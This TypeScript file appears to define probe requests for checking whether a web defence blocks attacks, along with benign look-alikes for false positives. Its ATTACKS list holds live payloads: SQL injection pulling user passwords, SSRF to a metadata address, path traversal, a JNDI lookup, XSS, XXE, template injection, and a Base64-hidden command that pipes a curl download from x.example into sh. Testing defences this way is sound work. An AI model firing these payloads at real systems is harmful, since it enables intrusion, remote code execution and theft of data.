/** What of a request the probe of inspection sends. */
export interface ProbeContent {
  /** Begins a sentence of the posture page. */
  readonly what: string;
  readonly method?: string;
  readonly query?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const PADDING_CHARS = 80_000;
const DEPTH = 40;

function posted(what: string, type: string, body: string): ProbeContent {
  return { what, method: 'POST', headers: { 'content-type': type }, body };
}

function escaped(text: string): string {
  return text.replaceAll(/[^\w ]/g, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

function nested(value: string): string {
  return `${'{"a":['.repeat(DEPTH / 2)}${JSON.stringify(value)}${']}'.repeat(DEPTH / 2)}`;
}

const twice = (text: string): string => encodeURIComponent(encodeURIComponent(text));
const FORM = 'application/x-www-form-urlencoded';
const PART = '--x\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx\r\n--x--\r\n';

/** Attacks of many classes, each in another place and disguise. */
export const ATTACKS: readonly ProbeContent[] = [
  { what: 'SQL in a parameter, encoded twice,', query: `?id=${twice("7' UNION SELECT name, pass FROM users-- ")}` },
  { what: 'A condition of SQL in comments', query: `?id=${encodeURIComponent("7'/**/oR/**/'a'='a")}` },
  { what: 'The address of metadata as a number', query: '?q=http://2852039166/latest/meta-data/' },
  { what: 'A path that climbs, in a cookie,', headers: { cookie: 'theme=..%2f..%2f..%2fetc%2fpasswd' } },
  {
    what: 'A lookup in a lookup, in a header field,',
    headers: { 'user-agent': '${${lower:j}ndi:ldap://x.example/a}' },
  },
  posted('Script deep in a document', 'application/json', nested('<svg/onload=alert(1)>')),
  posted('Script in escapes', 'application/json', JSON.stringify({ remark: escaped('<img src=x onerror=alert(1)>') })),
  posted('An operator for a value', 'application/json', '{"user":{"$ne":null}}'),
  posted(
    'A command after much else',
    'application/json',
    JSON.stringify(['x'.repeat(PADDING_CHARS), '; cat /etc/passwd']),
  ),
  posted('A command in Base64', FORM, `name=${encodeURIComponent(btoa('$(curl http://x.example/a|sh)'))}`),
  posted('A template that climbs', FORM, `name=${encodeURIComponent("{{''.__class__.__mro__[1].__subclasses__()}}")}`),
  posted('An entity', 'application/xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>'),
  posted('A script for an upload', 'multipart/form-data; boundary=x', PART),
  posted('A key that stands twice', 'application/json', '{"a":1,"a":2}'),
];

/** What only looks like an attack. */
export const HARMLESS: readonly ProbeContent[] = [
  { what: 'A name with an apostrophe', query: `?name=${encodeURIComponent("Conan O'Brien & Sons; Ltd")}` },
  {
    what: 'Words of SQL in a search',
    query: `?q=${encodeURIComponent('select a union rep, or drop the table for two')}`,
  },
  { what: 'Settings in a cookie', headers: { cookie: 'prefs={"theme":"dark","cols":["a","b"]}' } },
  posted(
    'A document about attacks',
    'application/json',
    JSON.stringify({
      body: "# Injection\n\nThe text `' OR 1=1 --` ends the string, and the rest of the query is a comment.\n\n- Use parameters\n- Never build queries by hand\n",
    }),
  ),
  posted(
    'Source code in a field for it',
    'application/json',
    JSON.stringify({
      source:
        "const rows = await db.query('SELECT * FROM users WHERE id = ?', [id]);\nif (rows.length > 0) {\n  run(rows);\n}\n",
    }),
  ),
];
